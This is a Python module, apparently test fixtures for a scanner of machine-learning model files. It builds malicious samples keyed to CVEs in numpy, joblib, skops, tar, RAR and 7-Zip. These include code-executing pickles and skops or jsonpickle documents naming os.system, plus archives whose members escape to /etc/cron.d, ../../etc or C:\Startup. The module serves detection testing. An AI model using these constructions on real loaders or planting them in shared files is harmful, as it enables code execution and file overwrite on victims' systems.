"""NumPy, joblib, scikit-learn, skops, and archives of every kind."""

from __future__ import annotations

import json
import tarfile

import model_files
import packed_files
import picklebytes as p
import skops_files
from archive_files import LINK, Entry, rar5, sevenzip

from attacks.attack import EVIL, Attack, calls

_LINK = packed_files.special("x", tarfile.SYMTYPE, "../../etc")


def _skops(root: dict[str, object]) -> bytes:
    return skops_files.skops(skops_files.estimator(x=root))


ATTACKS: tuple[Attack, ...] = (
    Attack(
        "CVE-2019-6446",
        "numpy.load unpickles arrays of objects",
        lambda: ("array.npy", model_files.npy("|O", (1,), EVIL)),
        "pickle-execute",
    ),
    Attack(
        "CVE-2024-34997",
        "joblib's NumpyArrayWrapper unpickles an array of objects from the same stream",
        lambda: ("model.joblib", _objects_of_joblib()),
        "pickle-execute",
    ),
    Attack(
        "CVE-2020-13092",
        "joblib.load runs what __reduce__ says",
        lambda: ("model.joblib", EVIL),
        "pickle-execute",
    ),
    Attack(
        "joblib's NDArrayWrapper",
        "the older wrapper opens a file by the name in the pickle",
        *calls("joblib.numpy_pickle", "NDArrayWrapper", "read"),
    ),
    Attack(
        "CVE-2024-37065",
        "a skops model names a function",
        lambda: ("model.skops", _skops(skops_files.node("FunctionNode", "os", "system"))),
        "skops-dangerous-type",
    ),
    Attack(
        "CVE-2025-54412",
        "an operator of skops' that is checked under another module than it is loaded from",
        lambda: (
            "model.skops",
            _skops(
                skops_files.node(
                    "OperatorFuncNode", "builtins", "call", attrs=skops_files.node("TupleNode", "builtins", "tuple")
                )
            ),
        ),
        "skops-disguised-node",
    ),
    Attack(
        "CVE-2025-54413",
        "a method of skops' that is checked as another class's",
        lambda: (
            "model.skops",
            _skops(
                skops_files.node(
                    "MethodNode",
                    "builtins",
                    "dict",
                    content={"func": "__globals__", "obj": skops_files.estimator()},
                )
            ),
        ),
        "skops-disguised-node",
    ),
    Attack(
        "CVE-2025-54886",
        "a pickle under the name of a skops model is loaded by joblib",
        lambda: ("model.skops", EVIL),
        "pickle-execute",
    ),
    Attack(
        "CVE-2007-4559",
        "a tar archive with a member that climbs out",
        lambda: ("model.tar", packed_files.tar(("../../x.json", b"{}"))),
        "tar-path-escapes",
    ),
    Attack(
        "CVE-2025-4517",
        "a link that leaves a tar archive, and a member that goes through it",
        lambda: ("model.tar", packed_files.tar(_LINK, ("x/passwd", b"{}"))),
        "tar-link-escapes",
        also=("CVE-2025-4330",),
    ),
    Attack(
        "CVE-2025-12060",
        "keras.utils.get_file unpacked a tar archive without a filter",
        lambda: ("model.tar.gz", packed_files.tar(("/etc/cron.d/x", b"{}"))),
        "tar-path-escapes",
    ),
    Attack(
        "CVE-2025-62518",
        "two headers of a tar archive say two sizes; readers see different members",
        lambda: ("model.tar", _two_sizes()),
        "tar-header-contradicts",
        outcome="incomplete",
    ),
    Attack(
        "CVE-2018-20250",
        "a RAR archive writes where its own name says, and WinRAR's check of it fails",
        lambda: ("model.rar", rar5(Entry("C:\\Startup\\x.json"))),
        "archive-path-escapes",
    ),
    Attack(
        "CVE-2025-8088",
        "a RAR archive hides a path in the name of an alternate stream",
        lambda: ("model.rar", rar5(Entry("a.json:..\\..\\x.json"))),
        "archive-path-escapes",
    ),
    Attack(
        "CVE-2025-11001",
        "7-Zip writes through a symbolic link of the archive",
        lambda: ("model.7z", sevenzip(Entry("x", b"../../etc", LINK))),
        "archive-link-escapes",
        also=("CVE-2025-11002",),
    ),
    Attack(
        "Zip Slip",
        "a ZIP archive with a member that climbs out",
        lambda: ("model.zip", model_files.archive({"../../x.json": b"{}"})),
        "archive-path-escapes",
    ),
    Attack(
        "a ZIP archive behind a pickle",
        "one loader reads from the start, another from the end",
        lambda: ("model.pt", EVIL + model_files.pytorch()),
        "ambiguous-format",
    ),
    Attack(
        "archives in archives",
        "scanners that open one level",
        lambda: ("a.zip", model_files.archive({"b.zip": model_files.archive({"c.dat": EVIL})})),
        "pickle-execute",
    ),
    Attack(
        "jsonpickle",
        "a document that names what to call",
        lambda: ("model.json", json.dumps({"py/reduce": [{"py/type": "os.system"}, ["true"]]}).encode()),
        "config-dangerous-reference",
    ),
    Attack(
        "shelve in a ZIP",
        "a pickle of protocol 0 under a name without an extension",
        lambda: ("model.zip", model_files.archive({"notes": p.reduce_global("os", "system")})),
        "pickle-execute",
    ),
)


def _objects_of_joblib() -> bytes:
    """A wrapper of an array of objects; their pickle follows its state."""
    items = {
        "subclass": p.stack_name("numpy", "ndarray"),
        "shape": b"K\x01\x85",
        "order": p.short("C"),
        "dtype": p.stack_name("numpy", "dtype") + p.short("O8") + b"\x89\x88\x87R",
        "allow_mmap": b"\x89",
    }
    state = b"}(" + b"".join(p.short(key) + value for key, value in items.items()) + b"ub"
    return p.PROTO4 + p.stack_name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + EVIL + b"."


def _two_sizes() -> bytes:
    """A member whose extended header says another size than its own."""
    record = b"11 size=512\n"
    extended = packed_files.header(b"h", size=len(record), kind=b"x") + packed_files.padded(record)
    return extended + packed_files.header(b"a.json", size=0) + packed_files.padded(b"{}") + packed_files.END
